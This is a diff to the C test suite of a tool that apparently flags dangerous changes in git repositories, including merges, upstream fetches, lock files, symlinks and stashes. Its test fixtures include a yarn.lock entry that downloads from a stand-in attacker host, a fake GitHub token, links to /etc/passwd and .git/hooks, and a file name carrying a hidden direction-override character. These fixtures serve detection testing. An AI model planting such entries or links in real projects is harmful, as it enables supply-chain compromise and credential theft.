@@ -86,20 +86,21 @@ static void judge(enum git_item_kind kind, const char *old, const char *new, con
         tap_fail("%s", err.message);
 }
 
-/* The marks as "CLASS PATH: REASON" of what stops it, or "when run PATH: REASON", or "none". */
+/* The strongest mark as "CLASS PATH: REASON", or "none". */
 static void expect(enum git_item_kind kind, const char *old, const char *new, const char *tree,
                    const char *expected, const char *what)
 {
+    static const char *const classes[NAMES_CLASSES] = {[NAMES_UNASKED] = "unasked ",
+                                                       [NAMES_WHEN_RUN] = "when run ",
+                                                       [NAMES_UNUSUAL] = "unusual ",
+                                                       [NAMES_NOT_JUDGED] = "not judged "};
     struct range range;
     autostr struct str text = {0};
     judge(kind, old, new, tree, &range);
     const struct range_mark *mark = range_stops(&range);
-    const struct range_mark *later = &range.first[NAMES_WHEN_RUN];
     if (mark)
-        str_concat(&text, mark == &range.first[NAMES_UNASKED] ? "unasked " : "not judged ",
-                   mark->path ? mark->path : "", ": ", mark->reason);
-    else if (later->reason)
-        str_concat(&text, "when run ", later->path ? later->path : "", ": ", later->reason);
+        str_concat(&text, classes[mark - range.first], mark->path ? mark->path : "", ": ",
+                   mark->reason);
     else
         str_append(&text, "none");
     tap_is_str(text.data, expected, "%s", what);
@@ -147,12 +148,14 @@ static void hidden(void)
 static void merges(void)
 {
     repository();
-    shell("git switch -qc up; put " WORKFLOW
+    shell("git branch x; git switch -qc up; put " WORKFLOW
           " x; put Makefile x; commit upstream; git switch -q main; base;"
           "put b b; commit mine; git merge -q -m merged up",
           NULL);
-    expect(REF, "main~1", "main", NULL, "none",
-           "what a merge takes from the user's branch has no mark");
+    expect(REF, "main~1", "main", NULL, CI,
+           "what a merge takes from another branch is new for this one");
+    shell("git branch -q --set-upstream-to up x", NULL);
+    expect(REF, "main~1", "main", NULL, "none", "what it takes from the upstream has no mark");
     shell("put " WORKFLOW " evil; git add .; git commit -q --amend --no-edit", NULL);
     expect(REF, "main~1", "main", NULL, CI, "what the merge itself changes has");
     shell("git reset -q --hard main~1; git switch -qc topic; git merge -q -m one up; git switch -q "
@@ -172,8 +175,14 @@ static void upstream(void)
     repository();
     shell("put " WORKFLOW
           " x; commit up; git update-ref refs/remotes/origin/main HEAD; git reset -q --hard HEAD~1;"
-          "base; git merge -q --ff-only origin/main",
+          "base; git branch x; git merge -q --ff-only origin/main; git config remote.origin.url .;"
+          "git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'",
           NULL);
+    expect(REF, "main~1", "main", NULL, CI,
+           "what was fetched is new for a branch that is set to it");
+    expect(REF, NULL, "main", NULL, "none", "a new name for it has no mark");
+    expect(GIT_ITEM_WORKTREE, "main~1", "main", NULL, CI, "HEAD on it has");
+    shell("git branch -q --set-upstream-to origin/main x", NULL);
     expect(REF, "main~1", "main", NULL, "none",
            "what a remote-tracking ref of the base has is no news");
     shell("git update-ref -d refs/remotes/origin/main; base; git update-ref -d "
@@ -197,7 +206,7 @@ static void ends(void)
     expect(REF, "HEAD~2", "HEAD~1", NULL, "when run Makefile: runs when you build or test",
            "and there it does");
     shell("echo x >t.sh; chmod +x t.sh; commit x", NULL);
-    expect(REF, "HEAD~1", "HEAD", NULL, "when run t.sh: a new executable file",
+    expect(REF, "HEAD~1", "HEAD", NULL, "unusual t.sh: a new executable file",
            "as a new executable file");
     shell("echo '{\"name\":\"x\"}' >package.json; commit p; echo '{\"name\":\"y\"}' >package.json; "
           "commit q;"
@@ -206,6 +215,18 @@ static void ends(void)
     expect(REF, "HEAD~2", "HEAD~1", NULL, "none", "a package.json without scripts has no mark");
     expect(REF, "HEAD~1", "HEAD", NULL,
            "when run package.json: scripts that a package manager runs", "one with scripts has");
+    shell("put yarn.lock 'resolved \"https://evil.example/x.tgz\"'; commit lock; put c "
+          "ghp_0123456789012345678901234567890123456; commit c; put c 'more text'; put \"$(printf "
+          "'x\\342\\200\\256y')\" x; commit n; git rm -q x*y; commit m",
+          NULL);
+    expect(REF, "HEAD~4", "HEAD~3", NULL,
+           "when run yarn.lock: downloads packages from a place that is new in it",
+           "lock files are judged like those of the user");
+    expect(REF, "HEAD~3", "HEAD~2", NULL, "when run c: looks as if it contains a credential",
+           "and credentials");
+    expect(REF, "HEAD~2", "HEAD~1", NULL,
+           "unusual x\342\200\256y: its name contains characters that are not shown",
+           "and the characters of names");
     shell("ln -s a within; commit w; ln -s ../../x out; commit o; git rm -q out; commit n", NULL);
     expect(REF, "HEAD~3", "HEAD~2", NULL, "none", "a link within has no mark");
     expect(REF, "HEAD~2", "HEAD", NULL, "unasked out: a link that leads out of the directory",
@@ -213,6 +234,12 @@ static void ends(void)
     shell("ln -s /etc/passwd abs; commit a", NULL);
     expect(REF, "HEAD~1", "HEAD", NULL, "unasked abs: a link to an absolute path",
            "an absolute one too");
+    repository();
+    shell("mkdir d; ln -s ../a d/a; commit i; ln -s ../.git/hooks d/out; commit h", NULL);
+    expect(REF, "HEAD~2", "HEAD~1", NULL, "none", "one to an ordinary name within has none");
+    expect(REF, "HEAD~1", "HEAD", NULL,
+           "unasked d/out: a link to a name that something executes or obeys unasked",
+           "one to a name that is executed has");
 }
 
 static void staged(void)
@@ -248,6 +275,13 @@ static void stashes(void)
     shell("put .vscode/tasks.json x; git stash -qu", NULL);
     expect(GIT_ITEM_STASH, NULL, "stash@{0}", NULL,
            "unasked .vscode/tasks.json: obeyed by Visual Studio Code", "and are judged");
+    shell("git switch -qc pr; put .envrc x; commit pr; git switch -q main; base;"
+          "u=$(git commit-tree -p pr -m untracked pr^{tree}); i=$(git commit-tree -p main -m index "
+          "main^{tree});"
+          "git tag -f stashed $(git commit-tree -p main -p $i -p $u -m wip main^{tree})",
+          NULL);
+    expect(GIT_ITEM_STASH, NULL, "stashed", NULL, "unasked .envrc: obeyed by direnv",
+           "all that is untracked counts, whatever its parent is");
 }
 
 static void submodules(void)
